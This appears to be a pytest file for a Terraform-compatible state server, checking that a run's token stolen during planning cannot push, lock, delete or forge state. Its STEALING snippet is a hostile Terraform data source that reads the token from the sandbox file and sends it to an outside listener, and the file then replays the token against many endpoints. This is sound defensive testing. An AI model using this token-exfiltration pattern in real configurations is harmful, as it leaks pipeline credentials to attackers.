"""A plan that was written to steal its own run's token, and somebody outside who writes state with it meanwhile.

Nothing but what is built in is needed for that: `file` reads the token where the engine has it, and the data source
`terraform_remote_state` takes it wherever it likes. So the token itself must be of no use to write with (invariant 12).
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from werkzeug.datastructures import Authorization

from bot.run import Run, RunStatus
from bot.state_reading import StateOutput
from storage.state_versions import StateVersion
from tests.clients.conftest import Desk
from tests.fakes.terraform_cli import CONFIGURATION, PATIENCE_SECONDS, Running, Said, Terminal

# Where an engine in the sandbox has the token with which it reads its state.
STEALING = """
data "terraform_remote_state" "friend" {
  backend = "http"
  config = {
    address  = "%s"
    username = "run"
    password = regex("token = \\"([^\\"]+)\\"", file("/runlock/inputs/cli.tfrc"))[0]
  }
}
"""


class Friend:
    """Somebody outside who is sent the token, and lets the plan wait for an answer as long as they like."""

    def __init__(self) -> None:
        self.token = ""
        self.has_it, self.may_go_on = threading.Event(), threading.Event()
        friend = self

        class Door(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                sent = Authorization.from_header(self.headers.get("Authorization"))
                friend.token = (sent.password if sent else None) or ""
                friend.has_it.set()
                friend.may_go_on.wait(PATIENCE_SECONDS)
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Door)
        self.address = f"http://127.0.0.1:{self.server.server_port}/"
        self._thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05})
        self._thread.start()

    def close(self) -> None:
        self.may_go_on.set()
        self.server.shutdown()
        self._thread.join()
        self.server.server_close()


class Theft:
    """prod has a state; a run that would be applied after its plan is being planned, and its token is out."""

    def __init__(self, desk: Desk, friend: Friend, folder: Path) -> None:
        self.desk, self.friend, self.folder = desk, friend, folder
        desk.terminal.run("apply", "-no-color", "-auto-approve").ok()
        self.services = desk.server.services
        workspace = self.services.workspaces.by_name(desk.organization.id, "prod")
        assert workspace is not None
        self.workspace = workspace
        self.before = self.current()
        hostile = CONFIGURATION + STEALING % friend.address
        desk.terminal.write(desk.terminal.cloud(desk.organization.name, 'name = "prod"'), hostile)
        self.planning: Running = desk.terminal.start("apply", "-no-color", "-var", "greeting=stolen")
        assert friend.has_it.wait(PATIENCE_SECONDS), self.planning.text
        assert friend.token == self.services.tokens.for_run(self.run.id, "plan")

    @property
    def run(self) -> Run:
        return self.services.runs.of_workspace(self.workspace.id)[0]

    def current(self) -> tuple[int, StateVersion, list[StateOutput]]:
        """How many states there are, which is the current one, and what is in it."""
        version = self.services.states.current(self.workspace.id)
        assert version is not None
        return self.services.states.count(self.workspace.id), version, self.services.states.outputs(version)

    def terminal(self, backend: str) -> Terminal:
        """The friend's, with nothing but the token."""
        terminal = Terminal(self.desk.server, self.friend.token, self.folder / "friend")
        name = self.desk.organization.name
        terminal.write(terminal.cloud(name, 'name = "prod"') if backend == "cloud" else 'backend "http" {}')
        url = f"{self.desk.server.address}/api/http-state/{name}/prod"
        settings = {"ADDRESS": url, "USERNAME": "run", "PASSWORD": self.friend.token, "RETRY_MAX": "0"}
        terminal.environment.update({f"TF_HTTP_{name}": value for name, value in settings.items()})
        return terminal

    def forged(self, terminal: Terminal) -> Path:
        """The state that the token opens, with another output and the next serial."""
        state = terminal.state()
        state["serial"] += 1
        state["outputs"]["greeting"]["value"] = "forged"
        path = self.folder / "forged.tfstate"
        path.write_text(json.dumps(state))
        return path

    def is_still_planning(self) -> bool:
        return self.run.status is RunStatus.PLANNING

    def ends(self) -> Said:
        self.friend.may_go_on.set()
        return self.planning.end()


@pytest.fixture
def theft(ready_desk: Desk, tmp_path: Path) -> Iterator[Theft]:
    friend = Friend()
    try:
        found = Theft(ready_desk, friend, tmp_path)
        yield found
        if found.planning.process.returncode is None:
            found.ends()
    finally:
        friend.close()


# To push, to push without a lock, to apply. The `http` backend shows of an answer its number alone.
SAID = {
    "http": ["HTTP error: 403"] * 3,
    "cloud": [
        "this needs locking the workspace in prod, which a run's token doesn't reach",
        "this needs writing states in prod, which a run's token doesn't reach",
        "Insufficient rights to apply changes",
    ],
}


@pytest.mark.parametrize("backend", SAID)
def test_what_terraform_says(theft: Theft, backend: str) -> None:
    terminal = theft.terminal(backend)
    terminal.run("init", "-no-color").ok()
    path = str(theft.forged(terminal))  # a plan's token reads: that is what it is for
    apply = ("apply", "-no-color", "-auto-approve", "-var", "greeting=forged")
    commands = [("state", "push", path), ("state", "push", "-lock=false", path), apply]
    for arguments, words in zip(commands, SAID[backend], strict=True):
        said = terminal.run(*arguments)
        assert said.code == 1, said.text
        assert words in said.text
    assert theft.is_still_planning()
    assert theft.current() == theft.before

    said = theft.ends()
    assert theft.friend.token not in said.text
    over = terminal.run("state", "pull")
    assert over.code == 1
    assert "auth" in over.text.lower(), over.text
    assert theft.current() == theft.before


def test_no_door_takes_a_state_for_it(theft: Theft) -> None:
    """The wire itself, through every protocol, also to lock, to unlock and to delete."""
    address, ident, token = theft.desk.server.address, theft.workspace.id, theft.friend.token
    name = f"{theft.desk.organization.name}/prod"
    raw = b'{"version": 4, "serial": 99, "lineage": "x"}'
    bearer = {"Authorization": f"Bearer {token}"}
    document: dict[str, Any] = {"data": {"type": "state-versions", "attributes": {"serial": 99, "md5": "0" * 32}}}
    api = f"{address}/api/v2/workspaces/{ident}"
    for method, url, more in (
        ("POST", f"{address}/api/http-state/{name}", {"auth": ("run", token), "data": raw}),
        ("DELETE", f"{address}/api/http-state/{name}", {"auth": ("run", token)}),
        ("LOCK", f"{address}/api/http-state/{name}", {"auth": ("run", token), "data": b'{"ID": "1"}'}),
        ("UNLOCK", f"{address}/api/http-state/{name}", {"auth": ("run", token)}),
        ("PUT", f"{address}/api/v1/terraform/state/{name}", {"headers": {"X-Atlas-Token": token}, "data": raw}),
        ("DELETE", f"{address}/api/v1/terraform/state/{name}", {"headers": {"X-Atlas-Token": token}}),
        ("POST", f"{api}/state-versions", {"headers": bearer, "json": document}),
        ("PATCH", f"{api}/state-versions", {"headers": bearer, "json": document}),
        ("POST", f"{api}/actions/lock", {"headers": bearer}),
        ("POST", f"{api}/actions/unlock", {"headers": bearer}),
        ("POST", f"{api}/actions/force-unlock", {"headers": bearer}),
    ):
        answer = requests.request(method, url, timeout=10, **more)
        assert answer.status_code == 403, f"{method} {url}: {answer.status_code} {answer.text}"
        assert "a run's token" in answer.text
    assert theft.is_still_planning()
    assert theft.current() == theft.before
